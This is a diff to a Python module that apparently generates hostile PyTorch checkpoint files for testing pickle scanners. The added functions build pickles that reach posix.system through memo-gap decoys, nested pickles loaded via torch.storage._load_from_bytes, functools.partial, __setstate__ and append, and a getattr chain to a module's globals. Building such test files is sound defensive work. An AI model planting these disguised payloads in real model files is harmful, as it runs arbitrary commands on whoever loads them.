@@ -2,9 +2,9 @@
 
 import pickle
 
-from attacks.assemble import Code, called, get, named, put, text
+from attacks.assemble import Code, called, get, named, put, text, value, whole
 from attacks.record import SHELL, HostileFile
-from attacks.sound import beside_weights, checkpoint
+from attacks.sound import beside_weights, checkpoint, weights
 
 GROUP = "disguises"
 STACK_GLOBAL = pickle.STACK_GLOBAL
@@ -110,6 +110,98 @@ def mixed_memo():
         + STACK_GLOBAL
         + COMMAND
     )
+
+
+def after_gaps():
+    """MEMOIZE numbers by how many values the memo holds: after a gap it replaces one that stands there."""
+
+    def decoy(innocent, true, number):
+        return text(innocent) + b"q" + bytes([number]) + b"0" + text(true) + b"\x940"
+
+    names = Code(decoy("collections", "posix", 1) + decoy("OrderedDict", "system", 2))
+    by_name = Code(names + b"h\1h\2" + STACK_GLOBAL + COMMAND)
+    by_value = Code(named("collections:OrderedDict") + b"q\0010" + named("posix:system") + b"\x940h\1" + COMMAND)
+    return [
+        HostileFile(
+            f"disguise_gap_{word}.pt",
+            GROUP,
+            about,
+            checkpoint(b"\x80\4" + code + b"0" + weights() + b"."),
+            SYSTEM,
+            True,
+        )
+        for word, about, code in [
+            ("names", "After gaps in the memo, innocent names are replaced.", by_name),
+            ("function", "After a gap in the memo, an innocent class is replaced by the function.", by_value),
+        ]
+    ]
+
+
+def nested():
+    """A pickle inside of the pickle, reached by what PyTorch itself needs."""
+    pickled = whole(called("posix:system", SHELL))
+    load = named("torch.storage:_load_from_bytes")
+    blank = Code(named("argparse:Namespace") + b")" + pickle.NEWOBJ)
+    encoded = called("_codecs:encode", pickled.decode("latin1"), "latin1")
+    runs = ("torch.storage._load_from_bytes", "posix.system")
+    return [
+        file("nested_encoded", "Its bytes are the result of a call.", called(load, encoded), runs),
+        file(
+            "nested_listed",
+            "Its bytes are made of a list.",
+            called(load, called("builtins:bytes", list(pickled))),
+            runs,
+        ),
+        file(
+            "nested_partial",
+            "It is loaded by a partial.",
+            called(called("functools:partial", load, pickled)),
+            (*runs, "functools.partial"),
+        ),
+        file(
+            "nested_setstate",
+            "It is the state of an object.",
+            Code(blank + value({"__setstate__": load}) + b"b" + value(pickled) + b"b"),
+            runs,
+        ),
+        file(
+            "nested_append",
+            "It is appended to an object.",
+            Code(blank + value({"append": load}) + b"b" + value(pickled) + b"a"),
+            runs,
+        ),
+        file(
+            "nested_by_type",
+            "It is loaded by the rebuilding of a tensor's type.",
+            called(
+                "torch._tensor:_rebuild_from_type_v2",
+                called("functools:partial", load, pickled),
+                named("torch:Tensor"),
+                (),
+                {},
+            ),
+            runs,
+        ),
+    ]
+
+
+def through_attributes():
+    """getattr, by which Python pickles bound methods, from an innocent class to everything."""
+
+    def attribute(thing, name):
+        return called("builtins:getattr", thing, name)
+
+    everything = attribute(attribute(named("argparse:Namespace"), "__init__"), "__globals__")
+    module = called(attribute(everything, "get"), "_os")
+    runs = ("builtins.getattr", "argparse.Namespace.__init__")
+    return [
+        file(
+            "getattr_chain",
+            "From a class to the globals of its module.",
+            called(attribute(module, "system"), SHELL),
+            runs,
+        )
+    ]
 
 
 def computed():
@@ -261,4 +353,13 @@ def patched():
 
 def files():
     """Every file of this class."""
-    return [*through_the_memo(), *computed(), *spelled_otherwise(), *dotted(), *patched()]
+    return [
+        *through_the_memo(),
+        *after_gaps(),
+        *nested(),
+        *through_attributes(),
+        *computed(),
+        *spelled_otherwise(),
+        *dotted(),
+        *patched(),
+    ]
